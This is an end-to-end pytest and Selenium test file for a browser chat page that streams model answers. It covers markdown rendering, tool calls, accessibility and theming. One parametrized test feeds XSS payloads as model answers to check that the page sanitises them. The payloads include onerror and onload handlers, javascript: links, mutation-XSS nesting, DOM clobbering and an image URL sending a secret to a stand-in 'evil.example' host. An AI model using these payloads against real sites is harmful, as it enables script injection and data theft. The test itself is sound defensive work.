"""The page at `/`, in a browser, with answers that the tests write."""

import json
from collections.abc import Iterator

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from baton.serving.telemetry.placement_terms import TERMS
from tests.support.page.browser import (
    answered,
    ask,
    axe_violations,
    button,
    choose,
    chromium,
    copied,
    eventually,
    is_done,
    opened,
    prefer,
    written_on,
)
from tests.support.page.scripted_router import TIMELINE, TINY, ScriptedRouter, scripted_router

pytestmark = [pytest.mark.e2e, pytest.mark.system]

MARKDOWN = """# Title

Some **bold** text, see [a page](https://example.com/).

```python
print("<b>" * 2)
```

| a | b |
|---|---|
| 1 | 2 |

- [x] done
"""
WEATHER = {"type": "function", "function": {"name": "get_weather", "parameters": {}}}


@pytest.fixture(scope="module")
def browser() -> Iterator[webdriver.Chrome]:
    with chromium() as one:
        yield one


@pytest.fixture(scope="module")
def served() -> Iterator[ScriptedRouter]:
    with scripted_router() as one:
        yield one


@pytest.fixture
def router(served: ScriptedRouter) -> Iterator[ScriptedRouter]:
    served.reset()
    yield served
    served.proceed.set()


@pytest.fixture
def page(browser: webdriver.Chrome, router: ScriptedRouter) -> Iterator[webdriver.Chrome]:
    with opened(browser, router.address) as one:
        yield one


def test_page_has_no_bound_of_its_own_and_tells_of_a_cut(page, router):
    router.reason = "length"
    card = answered(page, "x")
    assert "Cut at the model's length" in card.find_element(By.CSS_SELECTOR, ".note").text
    answered(page, "x", mode="continue")
    assert ["max_tokens" in body for body in router.requests] == [False, True]
    assert router.requests[1]["max_tokens"] == TINY["max_model_len"]
    card = answered(page, "x", max_tokens="5")
    assert "Cut at Max tokens" in card.find_element(By.CSS_SELECTOR, ".note").text
    assert router.requests[2]["max_tokens"] == 5


def test_page_renders_markdown_while_it_is_written(page, router):
    router.proceed.clear()
    router.answers = [[{"content": part} for part in MARKDOWN]]
    card = ask(page, "x")
    eventually(page, lambda: "done" in written_on(card))
    assert not is_done(card)
    answer = card.find_element(By.CSS_SELECTOR, ".answer")
    assert answer.find_element(By.TAG_NAME, "h3").text == "Title"
    assert answer.find_element(By.TAG_NAME, "strong").text == "bold"
    assert [cell.text for cell in answer.find_elements(By.TAG_NAME, "td")] == ["1", "2"]
    assert answer.find_element(By.TAG_NAME, "li").text == "☑ done"
    link = answer.find_element(By.TAG_NAME, "a")
    assert link.get_attribute("href") == "https://example.com/"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    router.proceed.set()
    eventually(page, lambda: is_done(card))
    assert router.requests[0]["messages"] == [{"role": "user", "content": "x"}]


def test_page_copies_code_blocks_and_the_raw_answer(page, router):
    router.answers = [[{"content": MARKDOWN}]]
    card = answered(page, "x")
    block = card.find_element(By.CSS_SELECTOR, ".code-block")
    assert block.find_element(By.TAG_NAME, "span").text == "python"
    assert copied(page, block, "Copy") == 'print("<b>" * 2)'
    actions = card.find_element(By.CSS_SELECTOR, ".actions")
    assert copied(page, actions, "Copy") == MARKDOWN


@pytest.mark.parametrize(
    "evil",
    [
        "<img src=x onerror=\"document.title='taken'\">",
        "a <script>document.title='taken'</script> b",
        "<svg onload=\"document.title='taken'\"><style>body{display:none}</style>",
        "[x](javascript:document.title='taken') [y](data:text/html,taken) [z](JaVaScRiPt&#58;1)",
        "![x](https://evil.example/?q=secret) ![y](data:image/png;base64,AAAA)",
        '![x" onerror="document.title=\'taken\'](/x "t\\" onerror=\'1\'")',
        '```"><img src=x onerror=alert(1)>\ncode\n```',
        "<form action=/v1/models><input name=x><button>y</button></form><iframe src=/></iframe>",
        "<math><mtext><table><mglyph><style><img src=x onerror=1>",
        "<a id=prompt name=form href=/>x</a>",
    ],
)
def test_page_runs_and_loads_nothing_of_an_answer(page, router, evil):
    router.answers = [[{"content": part} for part in evil]]
    card = answered(page, "x")
    answer = card.find_element(By.CSS_SELECTOR, ".answer")
    risky = "img, script, svg, style, form, input, iframe, math, [id], [name], [onerror], [style]"
    assert answer.find_elements(By.CSS_SELECTOR, risky) == []
    for link in answer.find_elements(By.TAG_NAME, "a"):
        assert (link.get_attribute("href") or "https:").startswith("https:")
    assert page.title == "Baton"
    loaded = page.execute_script("return performance.getEntriesByType('resource').length")
    assert loaded == 2  # the models, and this answer
    assert answer.is_displayed()


def test_page_asks_an_example_by_click(page, router):
    example = page.find_element(By.CSS_SELECTOR, ".examples button")
    text = example.text
    example.click()
    card = page.find_element(By.CSS_SELECTOR, ".card")
    eventually(page, lambda: is_done(card))
    assert router.requests[0]["messages"] == [{"role": "user", "content": text}]
    assert not example.is_displayed()
    assert page.switch_to.active_element == page.find_element(By.ID, "prompt")


def test_page_shows_text_that_is_nested_too_deep(page, router):
    deep = ">" * 20_000 + "x"
    router.answers = [[{"content": deep}]]
    card = answered(page, "x")
    assert written_on(card).endswith("x")


def test_page_explains_the_terms_of_a_reason(page, router):
    card = answered(page, "x")
    reason = card.find_element(By.CSS_SELECTOR, ".placement .quiet")
    assert reason.text == TIMELINE["reason"]
    terms = reason.find_elements(By.CSS_SELECTOR, ".term")
    assert [term.text for term in terms] == ["stall", "last request"]
    assert [term.get_attribute("title") for term in terms] == [f"{TERMS[t.text]}." for t in terms]


def test_page_shows_tool_calls_as_they_come(page, router):
    def piece(arguments, **first):
        return {"tool_calls": [{"index": 0, "function": {"arguments": arguments}} | first]}

    name = {"name": "get_weather", "arguments": ""}
    router.proceed.clear()
    router.answers = [
        [
            {"content": "Let me see."},
            piece("", id="call_1", type="function", function=name),
            piece('{"city": "Pa'),
        ],
        [{"content": "It rains."}],
    ]
    card = ask(page, "Weather in Paris?", tools=json.dumps([WEATHER]), tool_choice="required")
    shown = eventually(page, lambda: card.find_elements(By.CSS_SELECTOR, ".tool-call"))[0]
    eventually(page, lambda: shown.find_element(By.TAG_NAME, "pre").text == '{"city": "Pa')
    assert shown.find_element(By.TAG_NAME, "code").text == "get_weather"
    assert router.requests[0]["tools"] == [WEATHER]
    assert router.requests[0]["tool_choice"] == "required"
    router.proceed.set()
    eventually(page, lambda: is_done(card))
    shown.find_element(By.TAG_NAME, "textarea").send_keys("rain", Keys.ENTER)
    after = page.find_element(By.CSS_SELECTOR, ".card:last-child")
    assert page.switch_to.active_element == page.find_element(By.ID, "prompt")
    eventually(page, lambda: is_done(after))
    assert written_on(after).strip() == "It rains."
    question, call, result = router.requests[1]["messages"]
    assert question == {"role": "user", "content": "Weather in Paris?"}
    assert call["content"] == "Let me see."
    given = {"name": "get_weather", "arguments": '{"city": "Pa'}
    assert call["tool_calls"] == [{"id": "call_1", "type": "function", "function": given}]
    assert (result["role"], result["tool_call_id"]) == ("tool", "call_1")
    assert result["content"] == "rain"


def test_page_prints_whole_arguments_of_tool_calls_pretty(page, router):
    calls = [
        {"index": i, "id": f"c{i}", "type": "function", "function": {"name": n, "arguments": a}}
        for i, (n, a) in enumerate([("add", '{"a":1,"b":[2]}'), ("now", "")])
    ]
    router.answers = [[{"tool_calls": calls}], []]
    card = answered(page, "x")
    texts = [pre.text for pre in card.find_elements(By.CSS_SELECTOR, ".tool-call pre")]
    assert texts == ['{\n  "a": 1,\n  "b": [\n    2\n  ]\n}', ""]
    button(card, "Send results").click()
    eventually(page, lambda: len(router.requests) == 2)
    results = router.requests[1]["messages"][2:]
    assert [(one["role"], one["tool_call_id"]) for one in results] == [
        ("tool", "c0"),
        ("tool", "c1"),
    ]


def test_page_names_tools_that_are_no_json(page, router):
    choose(page, tools="[{")
    prompt = page.find_element(By.ID, "prompt")
    prompt.send_keys("x", Keys.ENTER)
    reason = page.find_element(By.ID, "tools").get_property("validationMessage")
    assert reason.startswith("Tools are no JSON list")
    assert prompt.get_property("value") == "x"
    assert router.requests == []


def test_page_shows_reasoning_in_a_collapsible_block(page, router):
    router.answers = [
        [{"reasoning_content": "Let me "}, {"reasoning_content": "think."}, {"content": "4"}]
    ]
    card = answered(page, "2+2?")
    thoughts = card.find_element(By.CSS_SELECTOR, ".thoughts")
    assert not thoughts.is_displayed()
    card.find_element(By.CSS_SELECTOR, ".reasoning summary").click()
    assert thoughts.text == "Let me think."
    assert written_on(card).strip() == "4"


def test_page_offers_a_choice_of_several_models(page, router):
    router.models = [TINY, {**TINY, "id": "base", "has_chat_template": False}]
    page.refresh()
    select = eventually(
        page, lambda: [s for s in page.find_elements(By.ID, "models") if s.is_displayed()]
    )[0]
    assert select.text.split() == ["tiny", "base"]
    assert page.find_element(By.ID, "mode").get_property("value") == "chat"
    answered(page, "x")
    assert router.requests[-1]["model"] == "tiny"
    select.send_keys("base")
    assert page.find_element(By.ID, "mode").get_property("value") == "completion"


def test_page_asks_for_an_api_key_where_one_is_needed(page, router):
    router.api_key = "secret"
    page.refresh()
    model = page.find_element(By.ID, "model")
    eventually(page, lambda: model.text == "An API key is needed.")
    field = page.find_element(By.ID, "api-key")
    assert page.switch_to.active_element == field
    field.send_keys("secret", Keys.TAB)
    eventually(page, lambda: model.text.startswith("tiny"))


def test_page_says_that_an_answer_was_cut_off(page, router):
    router.proceed.clear()
    router.answers = [[{"content": "Half an"}]]
    card = ask(page, "x")
    eventually(page, lambda: written_on(card).strip() == "Half an")
    router.is_cut = True
    router.proceed.set()
    eventually(page, lambda: is_done(card))
    alert = card.find_element(By.CSS_SELECTOR, "[role=alert]")
    assert alert.text == "The connection ended before the answer did."
    assert written_on(card).strip() == "Half an"


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_page_violates_no_rule_of_axe(page, router, theme):
    prefer(page, theme)
    assert axe_violations(page) == []
    router.proceed.clear()
    call = {"index": 0, "id": "c", "function": {"name": "f", "arguments": "{}"}}
    deltas = [{"reasoning_content": "Hm."}, {"content": MARKDOWN}, {"tool_calls": [call]}]
    router.answers = [deltas]
    card = ask(page, "x", system="Be kind.")
    eventually(page, lambda: card.find_elements(By.CSS_SELECTOR, ".tool-call"))
    assert axe_violations(page) == []
    router.proceed.set()
    eventually(page, lambda: is_done(card))
    for summary in card.find_elements(By.TAG_NAME, "summary"):
        page.execute_script("arguments[0].click()", summary)
    assert axe_violations(page) == []
    page.find_element(By.ID, "help-button").click()
    assert axe_violations(page) == []


def test_page_follows_the_preferred_theme_and_a_choice(page):
    script = "return getComputedStyle(document.body).backgroundColor"
    prefer(page, "light")
    light = page.execute_script(script)
    prefer(page, "dark")
    dark = page.execute_script(script)
    assert light != dark
    toggle = page.find_element(By.ID, "theme")
    toggle.click()
    assert page.execute_script(script) == light
    page.refresh()
    assert page.execute_script(script) == light
    page.execute_script("localStorage.clear()")


def test_page_fits_a_width_of_360_pixels(page, router):
    metrics = {"width": 360, "height": 640, "deviceScaleFactor": 1, "mobile": True}
    page.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    router.answers = [[{"content": MARKDOWN + "```\n" + "long " * 100 + "\n```\n" + "x" * 200}]]
    card = answered(page, "y" * 200)
    card.find_element(By.CSS_SELECTOR, ".placement summary").click()
    choose(page)
    assert page.execute_script("return document.documentElement.scrollWidth") == 360
    page.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


def test_page_reads_whole_sentences_to_a_screen_reader(page, router):
    router.proceed.clear()
    router.answers = [[{"content": "It is one. "}, {"content": "It is tw"}]]
    card = ask(page, "x")
    announcer = page.find_element(By.ID, "announcer")
    assert announcer.get_attribute("role") == "status"
    eventually(page, lambda: "tw" in written_on(card))
    assert "tw" not in str(announcer.get_attribute("textContent"))
    assert card.get_attribute("aria-busy") == "true"
    router.proceed.set()
    eventually(page, lambda: is_done(card))
    texts = [p.get_attribute("textContent") for p in announcer.find_elements(By.TAG_NAME, "p")]
    assert "".join(texts) == "The model is asked.It is one. It is tw"


def test_page_reaches_all_controls_by_tab_in_order(page, router):
    answered(page, "x")
    page.execute_script("document.getElementById('new-chat').focus()")
    names = ["new-chat"]
    for _ in range(40):
        page.switch_to.active_element.send_keys(Keys.TAB)
        element = page.switch_to.active_element
        if element.tag_name == "body":
            break
        names.append(element.get_attribute("id") or element.text)
    assert names == [
        *("new-chat", "theme", "help-button"),
        *("Copy as curl", "Try again", "Edit"),
        *("cached", "router queue", "prefill queue", "prefill", "transfer", "decode"),
        *("stall", "last request"),
        "What every worker would have cost",
        *("prompt", "options-button", "send"),
    ]
